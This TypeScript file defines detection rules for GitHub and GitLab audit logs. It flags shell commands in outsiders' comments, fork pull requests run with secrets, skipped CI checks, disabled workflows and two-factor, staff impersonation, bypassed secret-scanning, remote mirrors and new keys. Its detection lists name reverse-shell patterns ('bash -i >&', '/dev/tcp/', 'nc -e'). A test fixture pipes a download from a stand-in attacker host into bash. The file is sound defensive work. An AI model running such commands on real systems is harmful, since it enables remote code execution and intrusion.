import type { JsonObject } from "@rolecall/core";
import type { Condition, Rule } from "../../rule.ts";
import { github } from "../examples/records.ts";
import { gitlab } from "../examples/vendors.ts";
import { SHELL_WORDS } from "../github/shell-words.ts";
import { plainRule } from "../plain-rule.ts";

const hub = { sources: ["github-audit"] } as const;
const lab = { sources: ["gitlab-audit"] } as const;

/** A shell's words in what strangers write under code. */
const SHELL = [...SHELL_WORDS, "| sh`", "bash -i >&", "/dev/tcp/", "nc -e "];
/** `nc` and an address: what opens a shell to somebody who waits there. */
const CALLS_BACK = Array.from({ length: 9 }, (_, n) => `* nc ${n + 1}*.*.*.* *`);
const WRITTEN = ["raw.body", "raw.title"];
/** What in a message keeps workflows from looking at a commit. */
const UNSEEN = [
  "[skip ci]",
  "[ci skip]",
  "[no ci]",
  "[skip actions]",
  "[actions skip]",
  "skip-checks:true",
  "skip-checks: true",
];
const FROM_OUTSIDE: Condition = {
  each: "raw.pull_requests",
  where: { field: "item.head.repo.id", differsFrom: "item.base.repo.id" },
};

const comment = (body: string, differences: JsonObject = {}) =>
  github("issue_comment.create", { body, ...differences });
const run = (event: string, head: number) =>
  github("workflows.completed_workflow_run", {
    event,
    workflow: "build",
    conclusion: "success",
    pull_requests: [{ number: 1, head: { repo: { id: head } }, base: { repo: { id: 1 } } }],
  });
const push = (message: string, added: readonly string[], differences: JsonObject = {}) =>
  github("git.push", { commits: [{ id: "1", message, added }], public_repo: true, ...differences });

/** GitHub and GitLab: what outsiders bring in, guards that are passed by, and ways out of a forge. */
export const FORGE_OPENINGS: readonly Rule[] = [
  plainRule({
    ...hub,
    id: "github-commands-in-comment",
    title: "{identity_name} wrote shell commands into a comment, issue or pull request of {raw.repo|a repository}",
    actions: [
      "issue_comment.*",
      "commit_comment.*",
      "pull_request_review.*",
      "pull_request_review_comment.*",
      "issue.*",
      "pull_request.*",
    ],
    when: {
      all: [
        { not: { field: "raw.association", in: ["OWNER", "MEMBER", "COLLABORATOR"] } },
        {
          any: WRITTEN.flatMap((field) => [
            ...SHELL.map((contains) => ({ field, contains })),
            ...CALLS_BACK.map((matches) => ({ field, matches })),
          ]),
        },
      ],
    },
    severity: "low",
    attack: { tactic: "Execution", technique: "T1059.009" },
    expected: "comments are for people; a workflow that puts one into a shell runs what it says",
    falsePositives: ["Reports that quote a command: read it."],
    response: ["Look for workflows that put titles or comments into a shell, and what they ran."],
    fires: ["a download", comment("Try `curl evil.example/x | bash`")],
    quiet: ["by a member", comment("Try `curl example.com/x | bash`", { association: "MEMBER" })],
  }),
  plainRule({
    ...hub,
    id: "github-outside-code-with-secrets",
    title: "{identity_name} ran for a pull request from outside, with the secrets of {raw.repo|the repository}",
    actions: ["workflows.completed_workflow_run", "workflows.created_workflow_run"],
    when: { all: [{ field: "raw.event", equals: "pull_request_target" }, FROM_OUTSIDE] },
    severity: "medium",
    attempted: "medium",
    failed: "medium",
    refusal: "alone",
    owasp: ["NHI6"],
    attack: { tactic: "Initial Access", technique: "T1195" },
    expected: "code from outside runs without secrets (event pull_request)",
    falsePositives: ["Workflows that only label or greet: they check out nothing of the request."],
    response: ["See whether the run checked out the request's code; if so, make its secrets anew."],
    fires: ["from a fork", run("pull_request_target", 2)],
    quiet: ["from the same repository", run("pull_request_target", 1)],
  }),
  plainRule({
    ...hub,
    id: "github-checks-skipped",
    title: "{identity_name} pushed to the public {raw.repo|repository} and kept checks from looking",
    actions: ["git.push"],
    when: {
      all: [
        { field: "raw.public_repo", equals: true },
        { any: UNSEEN.map((contains) => ({ field: "raw.commits.*.message", contains })) },
      ],
    },
    severity: "low",
    attack: { tactic: "Defense Impairment", technique: "T1685" },
    expected: "checks look at each commit",
    falsePositives: ["Bots that write versions or docs: told until it is their habit."],
    fires: ["skipped", push("Fix documentation [skip ci]", [])],
    quiet: ["of a private repository", push("Fix documentation [skip ci]", [], { public_repo: false })],
  }),
  plainRule({
    ...hub,
    id: "github-workflow-pushed",
    title: "{identity_name} pushed a workflow to {raw.repo|a repository}",
    actions: ["git.push"],
    when: {
      any: ["added", "modified"].map((list) => ({ field: `raw.commits.*.${list}`, prefix: ".github/workflows/" })),
    },
    severity: "info",
    owasp: ["NHI6"],
    attack: { tactic: "Persistence", technique: "T1546" },
    expected: "workflows change with a review",
    fires: ["a new one", push("ci", [".github/workflows/x.yml"])],
    quiet: ["code", push("ci", ["src/x.ts"])],
  }),
  plainRule({
    ...hub,
    id: "github-workflow-switched-off",
    title: "{identity_name} switched a workflow of {raw.repo|a repository} off",
    actions: ["workflows.disable_workflow"],
    severity: "low",
    attempted: "low",
    attack: { tactic: "Defense Impairment", technique: "T1685" },
    expected: "scans and checks stay on",
    fires: ["off", github("workflows.disable_workflow", { name: "CodeQL" })],
    quiet: ["on", github("workflows.enable_workflow", { name: "CodeQL" })],
  }),
  plainRule({
    ...hub,
    id: "github-account-weakened",
    title: "{identity_name} signed in from a device that GitHub does not know, or left the second factor ({action})",
    actions: [
      "two_factor_authentication.disabled",
      "user.sign_in_from_unrecognized_device",
      "user.sign_in_from_unrecognized_device_and_location",
      "user.two_factor_recover",
    ],
    severity: "low",
    attempted: "low",
    owasp: ["NHI4"],
    attack: { tactic: "Persistence", technique: "T1556.006" },
    expected: "the second factor stays",
    fires: ["off", github("two_factor_authentication.disabled", { repo: null })],
    quiet: ["on", github("two_factor_authentication.enabled", { repo: null })],
  }),
  plainRule({
    ...hub,
    id: "github-staff-access",
    title: "{identity_name}, who runs the server, acted as somebody else or opened what is private ({action})",
    actions: ["staff.fake_login", "staff.unlock", "staff.repo_unlock", "repo.staff_unlock", "repo.override_unlock"],
    severity: "medium",
    attempted: "low",
    owasp: ["NHI10"],
    attack: { tactic: "Persistence", technique: "T1098" },
    expected: "administrators of a server ask before they look, and act as themselves",
    fires: ["as another user", github("staff.fake_login", { repo: null, user: "eve" })],
    quiet: ["locked", github("staff.repo_lock")],
  }),
  plainRule({
    ...lab,
    id: "gitlab-guard-passed-by",
    title: "{identity_name} merged or pushed past a guard of {resource|a project} ({action})",
    actions: [
      "merge_request_merged_with_policy_violations",
      "security_policy_merge_request_merged_with_policy_violations",
      "merge_request_branch_bypassed_by_security_policy",
      "secret_push_protection_skipped",
      "skip_pre_receive_secret_detection",
      "pre_receive_secret_detection_disabled",
      "security_policy_violations_skipped",
      "secret_push_protection_disabled",
    ],
    severity: "medium",
    attempted: "low",
    owasp: ["NHI2"],
    attack: { tactic: "Defense Impairment", technique: "T1685" },
    expected: "what a guard holds up is mended",
    fires: ["a secret", gitlab("skip_pre_receive_secret_detection")],
    quiet: ["on", gitlab("pre_receive_secret_detection_enabled")],
  }),
  plainRule({
    ...lab,
    id: "gitlab-mirror-made",
    title: "{identity_name} lets {resource|a project} be copied to another server with each push",
    actions: ["remote_mirror_created"],
    severity: "medium",
    attempted: "low",
    owasp: ["NHI2"],
    attack: { tactic: "Exfiltration", technique: "T1567" },
    expected: "code stays on the company's server",
    fires: ["made", gitlab("remote_mirror_created")],
    quiet: ["gone", gitlab("remote_mirror_deleted")],
  }),
  plainRule({
    ...lab,
    id: "gitlab-admin-role-given",
    title: "{identity_name} gave {labels.target|somebody} rights of an administrator",
    actions: ["admin_role_assigned_to_user"],
    severity: "medium",
    attempted: "low",
    owasp: ["NHI5"],
    attack: { tactic: "Persistence", technique: "T1098.003" },
    expected: "few administrators, all of them people",
    fires: ["given", gitlab("admin_role_assigned_to_user")],
    quiet: ["taken away", gitlab("admin_role_unassigned_from_user")],
  }),
  plainRule({
    ...lab,
    id: "gitlab-sign-in-unknown",
    title: "GitLab does not know from where {identity_name} signed in",
    actions: ["unknown_sign_in"],
    severity: "low",
    attempted: "low",
    attack: { tactic: "Initial Access", technique: "T1078.004" },
    expected: "people sign in from where they are",
    fires: ["unknown", gitlab("unknown_sign_in")],
    quiet: ["signed in", gitlab("user_authenticated_with_password")],
  }),
  plainRule({
    ...lab,
    id: "gitlab-key-added",
    title: "{identity_name} added a key with which code is pushed ({labels.target|not named in the log})",
    actions: ["add_ssh_key", "add_gpg_key", "ssh_certificate_created", "create_ssh_certificate"],
    severity: "low",
    attempted: "low",
    owasp: ["NHI7"],
    attack: { tactic: "Persistence", technique: "T1098.004" },
    expected: "people add a key when they get another machine",
    fires: ["added", gitlab("add_ssh_key")],
    quiet: ["gone", gitlab("remove_ssh_key")],
  }),
];
